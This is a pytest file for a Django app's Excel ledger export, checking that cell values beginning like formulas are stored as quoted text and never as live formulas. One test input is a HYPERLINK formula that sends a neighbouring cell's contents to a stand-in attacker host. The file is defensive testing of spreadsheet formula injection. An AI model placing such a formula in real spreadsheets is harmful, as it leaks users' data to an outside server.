"""Issue 10, finding 1: a text cell of any Excel file the system writes that starts like a formula
(= + - @, tab, CR) is written as text, never as a live formula. The one writer today is the 台账
(pc:ledger_xlsx, partydev/cases/selectors/ledger.py); every writer goes through
partydev/common/spreadsheet.py `as_text`."""

import zipfile
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook
from openpyxl.cell import WriteOnlyCell

from partydev.common.spreadsheet import as_text
from tests.factories import paper_case

NAMES = ['=HYPERLINK("http://e.vil/?"&B3,"x")', "=1+1", "+1+1", "-1+1", "@SUM(1)"]


def test_a_name_that_looks_like_a_formula_is_written_as_text_in_the_ledger(world, client):
    for name in NAMES:
        paper_case(world.branch, world.branch_admin, name=name)
    client.force_login(world.committee_admin)
    response = client.get(reverse("pc:ledger_xlsx"))
    assert response.status_code == 200

    with zipfile.ZipFile(BytesIO(response.content)) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere in the sheet

    ws = load_workbook(BytesIO(response.content)).active
    cells = {row[1].value: row[1] for row in ws.iter_rows(min_row=2) if row and row[1].value}
    for name in NAMES:
        cell = cells[name]  # shown exactly as entered, no apostrophe added to the value
        assert cell.data_type == "s"
        assert cell.quotePrefix, name  # and kept text when edited in Excel or LibreOffice
    assert not cells["陈思远"].quotePrefix  # ordinary names keep the ordinary style


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1", "＝1+1"])
def test_the_one_helper_makes_every_formula_start_text(value):
    wb = Workbook(write_only=True)
    ws = wb.create_sheet()
    cell = as_text(WriteOnlyCell(ws, value=value))
    assert (cell.data_type, cell.quotePrefix, cell.value) == ("s", True, value)


@pytest.mark.parametrize("value", ["王建国", "1+1", 42, None])
def test_other_values_are_left_alone(value):
    wb = Workbook(write_only=True)
    ws = wb.create_sheet()
    cell = as_text(WriteOnlyCell(ws, value=value))
    assert not cell.quotePrefix
